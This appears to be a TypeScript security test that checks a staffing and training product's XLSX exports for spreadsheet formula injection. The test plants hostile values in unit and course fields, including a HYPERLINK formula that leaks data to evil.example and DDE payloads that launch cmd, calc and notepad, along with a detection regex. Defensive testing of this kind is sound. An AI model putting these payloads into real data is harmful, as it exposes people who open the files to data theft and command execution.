import ExcelJS from 'exceljs';
import { expect, it } from 'vitest';
import type { AttackServer } from '../support/cadre-server.ts';
import { FULL } from '../support/mode.ts';

/**
 * Formula injection into spreadsheet exports: text an attacker controls (a unit name, a
 * course's names, provider and place, a citizen's name) is set to =HYPERLINK(…), +cmd,
 * -1+1 and @SUM(…), then every XLSX the product offers is downloaded and read cell by cell.
 * No cell may be a formula, and no text cell may start with = + - @ tab or CR (the product
 * prefixes such text with an apostrophe, platform/xlsx/safe-cells.ts).
 */
export const PAYLOADS = {
  unitName: '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  courseName: "+cmd|' /C calc'!A0",
  courseNameEn: '-1+1',
  provider: "@SUM(1+1)*cmd|' /C calc'!A0",
  location: '\t=1+2',
  applicant: "=1+1+cmd|' /C notepad'!A0",
} as const;

const DANGEROUS_START = /^[=+\-@\t\r]/;

export type CellFinding = { sheet: string; cell: string; value: string };

/** Every formula cell and every dangerous-looking text cell of a workbook, plus all text seen. */
export async function inspectWorkbook(bytes: ArrayBuffer): Promise<{ findings: CellFinding[]; texts: string[] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes);
  const findings: CellFinding[] = [];
  const texts: string[] = [];
  wb.eachSheet((sheet) => {
    sheet.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        const v = cell.value;
        if (cell.type === ExcelJS.ValueType.Formula || (v && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v))) {
          findings.push({ sheet: sheet.name, cell: cell.address, value: `formula ${JSON.stringify(v)}` });
          return;
        }
        const text =
          typeof v === 'string'
            ? v
            : v && typeof v === 'object' && 'richText' in v
              ? v.richText.map((r) => r.text).join('')
              : v && typeof v === 'object' && 'text' in v
                ? String(v.text)
                : null;
        if (text === null) return;
        texts.push(text);
        if (DANGEROUS_START.test(text)) findings.push({ sheet: sheet.name, cell: cell.address, value: text });
      });
    });
  });
  return { findings, texts };
}

async function api(s: AttackServer, token: string, method: string, path: string, body?: unknown): Promise<Response> {
  return fetch(`${s.base}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    body: body === undefined ? undefined : JSON.stringify(body),
    signal: AbortSignal.timeout(120_000),
  });
}

async function json<T>(res: Response, what: string): Promise<T> {
  if (res.status >= 300) throw new Error(`${what}: ${res.status} ${await res.text()}`);
  return (await res.json()) as T;
}

export function formulaExportChecks(server: () => AttackServer): void {
  it('no XLSX export contains a formula or an un-neutralised formula-like text', async () => {
    const s = server();
    const token = await s.tokenFor('padmin');
    const unitId = s.province.unitId;

    // 1. Hostile text into the places exports read from.
    const unit = await json<{ version: number; code: string }>(await api(s, token, 'GET', `/api/v1/units/${unitId}`), 'unit');
    await json(await api(s, token, 'PATCH', `/api/v1/units/${unitId}`, { version: unit.version, name: PAYLOADS.unitName }), 'rename unit');

    const openapi = (await (await fetch(`${s.base}/openapi.json`)).json()) as {
      paths: Record<string, Record<string, { requestBody?: { content: Record<string, { schema: { properties: object } }> } }>>;
    };
    const courseKeys = Object.keys(
      openapi.paths['/api/v1/training/courses']?.post?.requestBody?.content['application/json']?.schema.properties ?? {},
    );
    const list = await json<{ items: { id: number }[] }>(await api(s, token, 'GET', '/api/v1/training/courses?pageSize=1'), 'courses');
    const existing = await json<Record<string, unknown>>(
      await api(s, token, 'GET', `/api/v1/training/courses/${list.items[0]?.id}`),
      'course',
    );
    const course: Record<string, unknown> = Object.fromEntries(courseKeys.filter((k) => k in existing).map((k) => [k, existing[k]]));
    Object.assign(course, {
      code: 'ATTACK.FORMULA',
      nameVi: PAYLOADS.courseName,
      nameEn: PAYLOADS.courseNameEn,
      provider: PAYLOADS.provider,
      location: PAYLOADS.location,
      competencies: [],
    });
    await json(await api(s, token, 'POST', '/api/v1/training/courses', course), 'create course');

    // A WISN run and a placement batch over it, so their exports carry the unit name.
    const run = await json<{ id: number }>(await api(s, token, 'POST', '/api/v1/staffing/runs', {}), 'staffing run');
    const exports = [
      '/api/v1/staff/import/template.xlsx',
      `/api/v1/staff/export.xlsx?unitId=${unitId}`,
      '/api/v1/training/courses/export.xlsx?status=ALL',
      `/scorecard.xlsx?unit=${unit.code}&from=2026-01-01&to=2026-12-31`,
      `/staffing/runs/${run.id}/export.xlsx`,
      '/api/v1/training/plans/1/document.xlsx',
      '/training/plans/1/plan.xlsx',
    ];
    const versions = await json<{ items: { id: number }[] }>(await api(s, token, 'GET', '/api/v1/competencies/versions'), 'versions');
    for (const v of versions.items) exports.push(`/api/v1/competencies/versions/${v.id}/export.xlsx`);
    const campaigns = await json<{ items: { id: number }[] }>(await api(s, token, 'GET', '/api/v1/review-campaigns'), 'campaigns');
    for (const c of campaigns.items) exports.push(`/api/v1/review-campaigns/${c.id}/results.xlsx`);
    if (FULL) {
      const batch = await json<{ id: number }>(await api(s, token, 'POST', `/api/v1/staffing/runs/${run.id}/placements`, {}), 'placements');
      exports.push(`/staffing/placements/${batch.id}/export.xlsx`);
    }

    // 2. Every export, every cell.
    const problems: string[] = [];
    const payloadSeenIn = new Map<string, string[]>();
    for (const path of exports) {
      const res = await api(s, token, 'GET', path);
      if (res.status !== 200) {
        problems.push(`${path}: ${res.status} ${(await res.text()).slice(0, 200)}`);
        continue;
      }
      expect(res.headers.get('content-type'), path).toMatch(/spreadsheetml/);
      expect(res.headers.get('content-disposition'), path).toMatch(/^attachment;/);
      const { findings, texts } = await inspectWorkbook(await res.arrayBuffer());
      problems.push(...findings.map((f) => `${path} ${f.sheet}!${f.cell}: ${JSON.stringify(f.value)}`));
      for (const p of Object.values(PAYLOADS)) {
        if (texts.some((t) => t.includes(p.slice(1)))) payloadSeenIn.set(path, [...(payloadSeenIn.get(path) ?? []), p]);
      }
    }
    expect(problems).toEqual([]);
    // The check is not vacuous: the hostile text did reach the exports (neutralised).
    expect(payloadSeenIn.get(`/api/v1/staff/export.xlsx?unitId=${unitId}`)).toContain(PAYLOADS.unitName);
    expect(payloadSeenIn.get('/api/v1/training/courses/export.xlsx?status=ALL')).toEqual(
      expect.arrayContaining([PAYLOADS.courseName, PAYLOADS.courseNameEn, PAYLOADS.provider]),
    );
    expect(payloadSeenIn.get(`/staffing/runs/${run.id}/export.xlsx`)).toContain(PAYLOADS.unitName);
    console.info('formula payloads seen (neutralised) per export:', Object.fromEntries(payloadSeenIn));
  });
}
